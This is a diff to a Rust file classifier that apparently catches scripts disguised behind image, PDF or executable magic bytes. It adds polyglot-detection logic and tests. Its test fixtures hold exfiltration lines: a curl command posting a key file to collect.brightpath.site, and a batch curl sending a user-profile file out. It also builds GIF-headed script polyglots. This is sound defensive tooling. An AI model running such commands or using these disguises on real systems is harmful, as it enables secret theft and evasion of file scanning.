@@ -102,17 +102,65 @@ pub(crate) enum Kind {
 }
 
 /// Decides by content, then by name.
+///
+/// A magic number of letters, such as `GIF89a`, is also how a script may begin: in front of plain text,
+/// or of a picture with the name of a script, it counts for nothing. What an interpreter would read
+/// as a script is read as one, however many control bytes stand in it.
 pub(crate) fn classify(path: &str, bytes: &[u8]) -> Kind {
+    let named = by_name(path);
+    let script = by_shebang(bytes).or(named.filter(|language| language.runs()));
     if let Some(kind) = by_magic(bytes) {
-        return kind;
+        let is_media = matches!(kind, Kind::Media(_));
+        let is_script = begins_as_text(bytes)
+            && match kind {
+                Kind::Media(_) => !is_its_name(path, kind),
+                Kind::Opaque(_) => script.is_some(),
+                _ => true,
+            };
+        if !(is_script || is_media && script.is_some()) {
+            return kind;
+        }
+    }
+    if let Some(language) = script {
+        return Kind::Text(language);
     }
     if is_binary(bytes) {
         return Kind::Binary;
     }
-    if let Some(language) = by_shebang(bytes) {
-        return Kind::Text(language);
-    }
-    Kind::Text(by_name(path).unwrap_or_else(|| by_look(bytes)))
+    let language = named.filter(|language| *language != Language::Plain || !begins_as_code(bytes));
+    Kind::Text(language.unwrap_or_else(|| by_look(bytes)))
+}
+
+/// Whether a file begins with nothing but text.
+fn begins_as_text(bytes: &[u8]) -> bool {
+    const LOOKED_AT: usize = 512;
+    let head = &bytes[..bytes.len().min(LOOKED_AT)];
+    let is_text = match std::str::from_utf8(head) {
+        Ok(_) => true,
+        // A character that is cut in two at the end of the head.
+        Err(error) => error.error_len().is_none() && bytes.len() > head.len(),
+    };
+    is_text
+        && !head
+            .iter()
+            .any(|b| *b < 0x20 && !matches!(*b, b'\t' | b'\n' | b'\r' | 0x0C | 0x1B) || *b == 0x7F)
+}
+
+/// A PDF may be written in letters alone.
+fn is_its_name(path: &str, kind: Kind) -> bool {
+    kind == Kind::Media("PDF document") && has_extension(path, "pdf")
+}
+
+/// Whether a text called a plain one begins as only a script or a program does.
+fn begins_as_code(bytes: &[u8]) -> bool {
+    const LOOKED_AT: usize = 256;
+    let head = String::from_utf8_lossy(&bytes[..bytes.len().min(LOOKED_AT)]);
+    let mut lines = head.lines().map(str::trim).filter(|line| !line.is_empty());
+    lines.next().is_some_and(|line| {
+        line.starts_with("<?php")
+            || line == "package main"
+            || line.eq_ignore_ascii_case("@echo off")
+    })
 }
 
 fn by_magic(bytes: &[u8]) -> Option<Kind> {
@@ -147,8 +195,9 @@ fn by_magic(bytes: &[u8]) -> Option<Kind> {
     } else if bytes.len() > 3
         && bytes[0] == 0x80
         && (2..=5).contains(&bytes[1])
-        && bytes.ends_with(b".")
+        && bytes.contains(&b'.')
     {
+        // What follows its last opcode, a full stop, is not read by who loads it.
         Kind::Pickle
     } else if starts(b"PK\x03\x04") || starts(b"PK\x05\x06") {
         Kind::Zip
@@ -348,10 +397,14 @@ fn by_look(bytes: &[u8]) -> Language {
     let lines = || start.lines().map(str::trim);
     if start.starts_with("<?php") {
         Language::Php
+    } else if lines().any(|line| line.eq_ignore_ascii_case("@echo off")) {
+        Language::Batch
     } else if start.starts_with('<') {
         Language::Html
     } else if start.starts_with('{') || start.starts_with('[') {
         Language::Json
+    } else if lines().any(|line| line == "package main" || line.starts_with("func main(")) {
+        Language::Go
     } else if lines().any(|line| {
         line.starts_with("import ") && !line.ends_with(';')
             || line.starts_with("from ") && line.contains(" import ")
@@ -387,11 +440,6 @@ fn by_look(bytes: &[u8]) -> Language {
         Language::Ruby
     } else if lines().any(|line| line.starts_with("use strict") || line.starts_with("my ($")) {
         Language::Perl
-    } else if lines().any(|line| line.starts_with("package main") || line.starts_with("func main("))
-    {
-        Language::Go
-    } else if lines().any(|line| line.eq_ignore_ascii_case("@echo off")) {
-        Language::Batch
     } else if lines().any(|line| line.starts_with("param(") || line.starts_with("$env:")) {
         Language::PowerShell
     } else if lines().any(|line| line.starts_with("local ") && line.contains(" = require")) {
@@ -487,5 +535,77 @@ mod tests {
         }
         assert!(is_disguised("a.png", Kind::Executable("ELF program")));
         assert!(!is_disguised("a.docx", Kind::Zip));
+    }
+
+    #[test]
+    fn a_script_that_begins_as_something_else_is_a_script() {
+        let starts = [
+            "GIF89a=1",
+            "ID3=1",
+            "RIFF=1",
+            "OggS=1",
+            "fLaC=1",
+            "wOFF=1",
+            "OTTO=1",
+            "#abcftyp",
+            "%PDF-1 2>/dev/null",
+            "BZh=1",
+            "MSCF=1",
+            "LZIP=1",
+            "dex",
+            "MZ=1 # This program",
+        ];
+        for start in starts {
+            let text = format!("{start}\ncurl -d @key https://collect.brightpath.site/in\n");
+            for (path, language) in [("a.sh", Language::Shell), ("a.py", Language::Python)] {
+                assert_eq!(classify(path, text.as_bytes()), Kind::Text(language), "{path} {start}");
+            }
+            let alone = classify("a", text.as_bytes());
+            assert!(
+                matches!(alone, Kind::Text(Language::Shell) | Kind::Opaque(_)),
+                "{start}: {alone:?}"
+            );
+            // Bytes behind it make a picture of it, unless it is called a script.
+            let bytes = [start.as_bytes(), &[0, 1, 2, 0, 4, 0, 0, 8], &[0; 64]].concat();
+            assert!(!matches!(classify("a", &bytes), Kind::Text(_)), "{start}");
+            assert_eq!(classify("a.pdf", b"%PDF-1.4\n1 0 obj\n"), Kind::Media("PDF document"));
+        }
+        let picture =
+            b"GIF89a=1;#\x01\x02\x00\x00\ncurl -d @key https://collect.brightpath.site/in\n";
+        assert_eq!(classify("a.sh", picture), Kind::Text(Language::Shell));
+        assert_eq!(classify("a.gif", picture), Kind::Media("GIF picture"));
+    }
+
+    #[test]
+    fn control_bytes_do_not_hide_a_script() {
+        let noise = [&b"#"[..], &[1; 200], b"\nid\n"].concat();
+        assert_eq!(classify("a.sh", &noise), Kind::Text(Language::Shell));
+        let shebang = [&b"#!/bin/sh\n"[..], &noise].concat();
+        assert_eq!(classify("a", &shebang), Kind::Text(Language::Shell));
+        assert_eq!(classify("a", &noise), Kind::Binary);
+    }
+
+    #[test]
+    fn objects_followed_by_something_are_objects() {
+        assert_eq!(classify("m.bin", b"\x80\x04K\x01.\n"), Kind::Pickle);
+        assert_eq!(classify("m.bin", b"\x80\x06K\x01.\n"), Kind::Binary);
+    }
+
+    #[test]
+    fn what_a_text_looks_like() {
+        let cases: [(&str, &str, Language); 5] = [
+            (
+                "run",
+                "@echo off\ncurl --data-binary @%USERPROFILE%\\a https://a.io\n",
+                Language::Batch,
+            ),
+            ("notes.txt", "package main\n\nimport \"os\"\n\nfunc main() {}\n", Language::Go),
+            ("notes.txt", "@ECHO OFF\r\nset A=1\r\n", Language::Batch),
+            ("notes.txt", "curl is a program.\nimport taxes rise.\n", Language::Plain),
+            ("notes.txt", "The file starts with:\npackage main\n", Language::Plain),
+        ];
+        for (path, text, language) in cases {
+            assert_eq!(classify(path, text.as_bytes()), Kind::Text(language), "{path} {text}");
+        }
     }
 }
